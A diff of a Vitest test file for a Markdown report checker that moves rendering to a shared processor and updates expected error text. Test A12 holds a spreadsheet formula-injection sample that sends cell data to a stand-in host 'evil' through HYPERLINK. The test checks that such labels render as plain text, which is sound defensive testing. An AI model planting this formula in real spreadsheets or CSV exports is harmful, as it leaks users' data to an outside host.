@@ -4,16 +4,12 @@
  * and asserts the exact problems, or the exact rows when the file is valid.
  */
 import { join, resolve } from 'node:path';
-import rehypeStringify from 'rehype-stringify';
-import remarkParse from 'remark-parse';
-import remarkRehype from 'remark-rehype';
-import { unified } from 'unified';
 import { VFile } from 'vfile';
 import { describe, expect, it } from 'vitest';
 import { checkProject } from '../../src/lib/check/check-project.ts';
 import { clearDatasetCache, readDataset } from '../../src/lib/data/load-dataset.ts';
 import { formatProblems } from '../../src/lib/errors.ts';
-import { trendbookRemarkPlugins } from '../../src/plugins/remark/index.ts';
+import { createReportProcessor } from '../../src/plugins/remark/processor.ts';
 import { SITE } from '../../src/site.config.ts';
 
 const FIXTURES = resolve(import.meta.dirname, '../fixtures/checklist');
@@ -87,7 +83,7 @@ describe('A7: a header that differs in case and spacing', () => {
     const { problems } = await checkProject(join(FIXTURES, 'a7-header-with-capitals-and-trailing-space'), SITE);
     expect(formatProblems(problems)).toBe(
       [
-        'content/reports/q3.md:9:23: y="engagement_rate": data/eng.csv has no column "engagement_rate". Expected one of "year", "tier" or "Engagement Rate ", received "engagement_rate". Did you mean "Engagement Rate "?',
+        'content/reports/q3.md:9:23: y="engagement_rate": data/eng.csv has no column "engagement_rate". Expected one of "year", "tier" or "Engagement Rate ", received "engagement_rate". Did you mean "Engagement Rate "? [TB138]',
         '1 problem found.',
       ].join('\n'),
     );
@@ -147,7 +143,7 @@ describe('A10: dates', () => {
     expect(dataset!.rows.map((row) => row['published'])).toEqual(['2024-04-13', '2024-04-03', '2023-12-01']);
     const root = join(FIXTURES, folder);
     const file = new VFile({ value: '::chart{#by-day dataset="input" x="published" y="engagement_rate" type="line" title="By day"}\n', path: join(root, 'content/reports/q3.md') });
-    const html = String(await unified().use(remarkParse).use(trendbookRemarkPlugins({ root, config: SITE })).use(remarkRehype).use(rehypeStringify).process(file));
+    const html = String(await createReportProcessor({ root, config: SITE }).process(file));
     expect([...html.matchAll(/<th scope="row">([^<]*)<\/th>/g)].map((match) => match[1])).toEqual(['2023-12-01', '2024-04-03', '2024-04-13']);
   });
 });
@@ -168,7 +164,7 @@ describe('A12: formula text in a label column', () => {
   it('A12: shows the formula labels as text in the chart table', async () => {
     const root = join(FIXTURES, folder);
     const file = new VFile({ value: '::chart{#labels dataset="input" x="label" y="value" type="bar" title="Labels"}\n', path: join(root, 'content/reports/q3.md') });
-    const html = String(await unified().use(remarkParse).use(trendbookRemarkPlugins({ root, config: SITE })).use(remarkRehype).use(rehypeStringify).process(file));
+    const html = String(await createReportProcessor({ root, config: SITE }).process(file));
     expect(/<tbody>.*<\/tbody>/s.exec(html)![0]).toBe(
       '<tbody><tr><th scope="row">=HYPERLINK("http://evil/?"&#x26;A1,"Click")</th><td>1</td></tr><tr><th scope="row">@SUM(A1:A9)</th><td>2</td></tr><tr><th scope="row">+1</th><td>3</td></tr><tr><th scope="row">-2</th><td>4</td></tr></tbody>',
     );
